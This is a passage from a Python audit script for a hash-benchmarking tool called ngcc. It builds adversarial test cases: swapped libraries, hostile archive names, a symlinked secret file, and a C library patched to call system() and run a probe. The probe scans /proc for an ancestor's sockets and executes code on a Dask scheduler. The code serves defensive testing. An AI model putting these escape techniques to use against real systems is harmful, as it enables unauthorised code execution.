            record = load_run(swap_dir).record("Victim-256", 32)
        except Exception:
            return None
        if record.implementation.library_sha256 != sha256_file(victim):
            return "silent wrong: the victim's record names a library it did not measure"
        return None
    cases.append(Case("timing a library replaced between gate and trials", cli(
        "campaign", str(victim), str(swapper), "--quick", "--lengths", "32", "--trials", "2",
        "--allow-kat-fail", "--quiet", "--run-dir", str(swap_dir)), expect="any",
        timeout=400, check=swap_caught, serial=True))
    cases.append(Case("timing frames of 10-21 ticks per call (fake driver)", py("""
        import sys, textwrap
        sys.path.insert(0, %r)
        from _testlib import fake_driver
        from pathlib import Path
        import ngcc
        from ngcc.driver import child as _child
        from ngcc.driver import facts as _facts
        from ngcc.driver import process as _process
        from ngcc.driver import protocol as _protocol
        _, floor, frequency = _facts.counter_floor()
        fields = {name: 0 for name, _ in _protocol.TRIAL_FIELDS}
        fields.update(cpu=-1, counter_id=1, calls=100, frequency_hz=frequency,
                      overhead_min_ticks=4 * floor, overhead_median_ticks=4 * floor,
                      loop_ticks=2000, loop_ns=int(2000 * 1e9 / frequency),
                      baseline_rss_kib=1, peak_rss_kib=1)
        values = [fields[name] for name, _ in _protocol.TRIAL_FIELDS]
        body = textwrap.dedent('''
            frame(1, struct.pack('<II', 1, pid)); frame(2)
            facts = %%r
            facts[0] = pid
            ticks = b''.join(struct.pack('<Q', 10 + i %%%% 12) for i in range(100))
            frame(7, struct.pack(%%r, *facts)); frame(8, ticks); frame(13)
        ''') %% (values, _protocol.TRIAL_LAYOUT.format)
        _process.DRIVER = fake_driver(Path(%r), body)
        try:
            _child.trial(ngcc.instance("SM3"), 65536, 100, 0, batch_calls=0)
        except _process.DriverError as exc:
            print("ngcc: error: %%s" %% exc, file=sys.stderr)
            sys.exit(1 if exc.status == "protocol" else 3)
        """ % (str(REPO / "tests"), str(tmp)))))
    return cases


DASK_PROBE = r'''
import os, signal, sys
def give_up(*_):
    raise TimeoutError("no answer")
signal.signal(signal.SIGALRM, give_up)  # a port that never answers (the dashboard's)
mark = sys.argv[1]
log = open(mark + ".tried", "a", buffering=1)  # what the probe saw, for --verbose
from distributed import Client
# only the listening sockets of this process's ancestors (ngcc): never another's
inodes, pid = set(), os.getppid()
while pid > 1:
    try:
        for fd in os.listdir("/proc/%d/fd" % pid):
            target = os.readlink("/proc/%d/fd/%s" % (pid, fd))
            if target.startswith("socket:["):
                inodes.add(target[8:-1])
        pid = int(open("/proc/%d/stat" % pid).read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        break
ports = set()
for table in ("/proc/net/tcp", "/proc/net/tcp6"):
    try:
        lines = open(table).read().splitlines()[1:]
    except OSError:
        continue
    for line in lines:
        fields = line.split()
        if fields[3] == "0A" and fields[9] in inodes:
            ports.add(int(fields[1].split(":")[1], 16))
log.write("ports %s\n" % sorted(ports))
for port in sorted(ports, key=lambda p: p == 8787)[:6]:
    signal.alarm(4)
    try:
        log.write("connecting %d\n" % port)
        with Client("tcp://127.0.0.1:%d" % port, timeout=3) as client:
            log.write("connected %d\n" % port)
            pid = client.run_on_scheduler(os.getpid)
            open(mark, "w").write("%d\n" % pid)
            break
    except Exception as exc:
        log.write("%d: %s\n" % (port, type(exc).__name__))
    signal.alarm(0)
'''


def dask_cases(tmp: Path) -> list[Case]:
    from _testlib import build_library

    folder = tmp / "dask"
    folder.mkdir()
    probe, mark = folder / "probe.py", folder / "scheduler-reached"
    probe.write_text(DASK_PROBE)
    source = ("#include <stdlib.h>\n#define CHEAT 0\n" + HONEST_SOURCE.replace(
        "streak = bits", "{ static int once; if (!once++ && getenv(\"NGCC_AUDIT_NO\") == 0) "
        "if (system(%s) < 0) return 1; }\n    streak = bits" % _c_string(
            "%s %s %s 2>/dev/null" % (sys.executable, probe, mark))))
    library = build_library(folder, "Probe-256", source)
    return [Case("dask scheduler reachable from a library (--workers 2)", cli(
        "campaign", str(library), "--workers", "2", "--quick", "--lengths", "32",
        "--trials", "2", "--allow-kat-fail", "--quiet", "--run-dir", str(tmp / "dask-run")),
        expect="any", timeout=240, serial=True,
        check=lambda done: ("escape: a library ran code in the Dask scheduler"
                            if mark.exists() else None))]


def archive_cases(tmp: Path) -> list[Case]:
    """Archives for ``ngcc evaluate``: hostile names and compiler text, a KAT file linked
    to a secret, a non-UTF-8 name, a symlinked folder, a built-in name declared."""
    from _hostile_archive import (
        CONTROL as LIVE,
    )
    from _hostile_archive import (
        TINY,
        hostile_archive,
        live_html,
        live_markdown,
        table_widths,
    )

    vectors = TINY.parents[2] / "Test_Vectors" / "TinyHash-256"
    cases = []

    def evaluate(name: str, archive: Path, check: Callable[[Path, subprocess.CompletedProcess[str]],
                                                             str | None]) -> None:
        run_dir = tmp / ("eval-" + re.sub(r"\W+", "-", name))
        cases.append(Case("archive " + name, cli(
            "evaluate", str(archive), "--run-dir", str(run_dir), "--quick", "--lengths", "32",
            "--trials", "2", "--kat-files", "2_23", "--no-plots", "--quiet"), expect="any",
            timeout=400, serial=True, check=lambda done: check(run_dir, done)))

    def inert(run_dir: Path, done: subprocess.CompletedProcess[str]) -> str | None:
        if LIVE.search(done.stdout + done.stderr):
            return "escape: a control character reached the terminal"
        for page in sorted((run_dir / "report").glob("*.*")):
            text = page.read_text(errors="replace")
            live = live_markdown(text) if page.suffix == ".md" else live_html(text)
            if live:
                return "escape: %r live in %s" % (live[0], page.name)
            if page.suffix == ".md" and any(len(w) != 1 for w in table_widths(text)):
                return "escape: a name broke a table of %s" % page.name
        if not (run_dir / "report" / "index.md").exists():
            return "silent wrong: no report"
        return None
    evaluate("hostile names and #error text", hostile_archive(tmp / "hostile"), inert)

    secret = tmp / "kat-secret.txt"
    secret.write_text("AUDIT-KAT-SECRET-51f0\nmore\n")
    sneaky = tmp / "sneaky" / "archive"
    shutil.copytree(TINY, sneaky / "Sneaky" / "Reference_Implementation" / "TinyHash-256")
    kat = sneaky / "Sneaky" / "Test_Vectors" / "TinyHash-256" / "KAT_2_23_TinyHash-256.txt"
    kat.parent.mkdir(parents=True)
    kat.symlink_to(secret)

    def refused(run_dir: Path, done: subprocess.CompletedProcess[str]) -> str | None:
        leaked = _no_secret("AUDIT-KAT-SECRET", run_dir)(done)
        if leaked:
            return leaked
        logs = "".join(p.read_text() for p in (run_dir / "kat").rglob("*.log"))
        return None if str(kat) in logs and "not read" in logs else (
            "silent wrong: the linked KAT file was not refused by name")
    evaluate("KAT file linked to a secret", sneaky, refused)

    odd = tmp / "odd" / "archive"
    name = os.fsdecode(b"Bad\xff\xfeName")
    shutil.copytree(TINY, odd / name / "Reference_Implementation" / "TinyHash-256")
    shutil.copytree(vectors, odd / name / "Test_Vectors" / "TinyHash-256")
    evaluate("non-UTF-8 folder name", odd, lambda run_dir, done: None if (
        done.returncode == 0 and "\\udcff" in done.stdout) else
        "silent wrong: status %d: %s" % (done.returncode, (done.stdout + done.stderr)[-160:]))

    linked = tmp / "linked" / "archive"
    shutil.copytree(TINY, linked / "Real" / "Reference_Implementation" / "TinyHash-256")
    shutil.copytree(vectors, linked / "Real" / "Test_Vectors" / "TinyHash-256")
    shutil.copytree(TINY, tmp / "linked" / "elsewhere" / "Reference_Implementation" / "X-256")
    (linked / "Linked").symlink_to(tmp / "linked" / "elsewhere")
    evaluate("symlinked submission folder", linked, lambda run_dir, done: None if
             "not followed" in done.stdout else "silent wrong: no row for the linked folder")

    named = tmp / "named" / "archive"
    for submission, instance in (("Fake Baseline", "pseudoXOF-256"), ("Honest", "TinyHash-256")):
        folder = named / submission / "Reference_Implementation" / instance
        shutil.copytree(TINY, folder)
        header = folder / "CryptHash_AlgorithmInstance.h"
        header.write_text(header.read_text().replace('"TinyHash-256"', '"%s"' % instance))
        target = named / submission / "Test_Vectors" / instance
        shutil.copytree(vectors, target)
        for file in target.iterdir():
            file.rename(target / file.name.replace("TinyHash-256", instance))

    def own_label(run_dir: Path, done: subprocess.CompletedProcess[str]) -> str | None:
        from ngcc.evidence.run import load_run
        from ngcc.stats import groups

        run = load_run(run_dir)
        if any(r.label.casefold() == "pseudoxof-256" for r in run.records):
            return "silent wrong: a submission carries the built-in name pseudoXOF-256"
        honest = [r for r in run.records if r.instance == "TinyHash-256"]
        if honest and groups.baseline_record(run.records, honest[0]) is not None:
            return "silent wrong: a submission became the x pseudoXOF baseline"
        return None
    evaluate("a submission declaring pseudoXOF-256", named, own_label)
    return cases


def name_cases(tmp: Path) -> list[Case]:
    folder = tmp / "names"
    folder.mkdir()
    return [Case("names two external libraries declaring pseudoXOF-256 beside the built-in",
                 py("""
        import json, shutil, sys, warnings
        from pathlib import Path
        import ngcc
        from ngcc.stats import groups
        root = Path(%r)
        paths = []
        for sub in ("a", "b"):
            (root / sub).mkdir()
            lib = root / sub / "pseudoXOF-256.so"
            shutil.copyfile(ngcc.instance("SM3").library, lib)
            (root / sub / "pseudoXOF-256.so.json").write_text(json.dumps(
                {"name": "pseudoXOF-256", "digest_bits": 256, "family": "Fake"}))
            paths.append(str(lib))
        warnings.simplefilter("ignore")
        run = ngcc.Campaign([*paths, "pseudoXOF-256", "SM3"], quick=True, lengths=[32],
                            trials=2, allow_kat_fail=True, run_dir=root / "run",
                            progress=False, wait=120).run()
        labels = [lib.label for lib in run.plan.libraries]
        if len(set(l.casefold() for l in labels)) != len(labels):
            sys.exit("ngcc: two libraries share a label: %%s" %% labels)
        sm3 = run.record("SM3", 32)
        base = groups.baseline_record(run.records, sm3)
        if base is None or base.candidate != "baseline":
            print("wrong baseline: %%s" %% (base and base.label), file=sys.stderr); sys.exit(0)
        sys.exit(0 if labels[2] == "pseudoXOF-256" and labels[0] != "pseudoXOF-256" else 4)
        """ % str(folder)), expect="ok", timeout=400, serial=True)]


def resume_cases(tmp: Path) -> list[Case]:
    cases = []
    for damage in ("fifo", "deep"):
        run_dir = tmp / ("resume-" + damage)
        run_dir.mkdir()
        if damage == "fifo":
            os.mkfifo(run_dir / "campaign.json")
        else:
            (run_dir / "campaign.json").write_bytes(b"[" * 200000)
        cases.append(Case("resume campaign.json %s" % damage, cli(
            "campaign", "SM3", "--quick", "--lengths", "32", "--trials", "2", "--quiet",
            "--run-dir", str(run_dir)), timeout=60, serial=True))
    return cases


def issue36_cases(tmp: Path) -> list[Case]:
    cases = (build_argument_cases(tmp) + isolation_cases(tmp) + timing_cases(tmp)
             + dask_cases(tmp) + archive_cases(tmp) + name_cases(tmp) + resume_cases(tmp))
    for case in cases:  # another ngcc's campaign on this machine: wait for its CPU
        if case.argv[:2] == ["-m", "ngcc"] and case.argv[2] in MEASURING:
            case.argv += ["--wait", str(CPU_WAIT)]
    return cases


#: The subcommands that take a CPU lock, and how long a case waits for one.
MEASURING = ("campaign", "leak", "evaluate")
CPU_WAIT = 120


KINDS = ("clear", "traceback", "hang", "main crash", "silent wrong", "escape")


def _run_all(cases: list[Case], jobs: int, verbose: bool) -> dict[str, list[str]]:
    """Every case, sorted by outcome: the serial ones (they measure: a CPU lock each)
    one after another in one thread, the rest ``jobs - 1`` at a time beside them."""
    import concurrent.futures
    import threading

    outcomes: dict[str, list[str]] = collections.defaultdict(list)
    lock = threading.Lock()

    def one(case: Case) -> None:
        kind, why = classify(case)
        with lock:
            outcomes[kind].append(case.name)
            if kind != "clear" or verbose:
                print("%-12s %s%s" % (kind, case.name, ": " + why if why else ""), flush=True)

    def serial() -> None:
        for case in (c for c in cases if c.serial):
            one(case)

    with concurrent.futures.ThreadPoolExecutor(max(1, jobs - 1)) as pool:
        runner = threading.Thread(target=serial)
        runner.start()
        list(pool.map(one, [c for c in cases if not c.serial]))
        runner.join()
    return outcomes


def _table(outcomes: dict[str, list[str]], cases: list[Case]) -> list[str]:
    """The totals by class of case (the word before the first space of its name)."""
    classes = list(dict.fromkeys(c.name.split(" ", 1)[0] for c in cases))
    kind_of = {name: kind for kind, names in outcomes.items() for name in names}
    rows = [("class", "cases", *KINDS)]
    for group in [*classes, "all"]:
        names = [c.name for c in cases if group in ("all", c.name.split(" ", 1)[0])]
        rows.append((group, str(len(names)), *(str(sum(kind_of.get(n) == k for n in names))
                                                for k in KINDS)))
    widths = [max(len(row[i]) for row in rows) for i in range(len(rows[0]))]
    return ["  ".join(cell.rjust(w) if i else cell.ljust(w)
                      for i, (cell, w) in enumerate(zip(row, widths, strict=True)))
            for row in rows]


def main() -> int:
    import time

    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--only", default="", help="run the cases whose name holds this")
    parser.add_argument("--verbose", action="store_true", help="print every case")
    parser.add_argument("--jobs", type=int, default=4,
                        help="cases at once (the measuring ones always one at a time)")
    args = parser.parse_args()
    started = time.monotonic()
    tmp = Path(tempfile.mkdtemp(prefix="ngcc-audit-"))
    try:
        os.chdir(tmp)  # default output folders land here
        # ... and `python -m ngcc` runs this checkout, built in place, not whichever
        # ngcc is installed (the folder it ran from was its first import path)
        os.environ["PYTHONPATH"] = os.pathsep.join(
            [str(REPO), *filter(None, [os.environ.get("PYTHONPATH")])])
        cases = [c for c in (cli_cases(tmp) + api_cases(tmp) + run_dir_cases(tmp)
                             + library_cases(tmp) + issue36_cases(tmp)
                             + issue45_cases(sys.modules[__name__], tmp))
                 if args.only in c.name]
        outcomes = _run_all(cases, args.jobs, args.verbose)
        print("%d cases: %s" % (len(cases), ", ".join(
            "%d %s" % (len(outcomes[k]), k) for k in KINDS)))
        print("\n".join(_table(outcomes, cases)))
        print("took %.0f s" % (time.monotonic() - started))
    finally:
        shutil.rmtree(tmp, ignore_errors=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
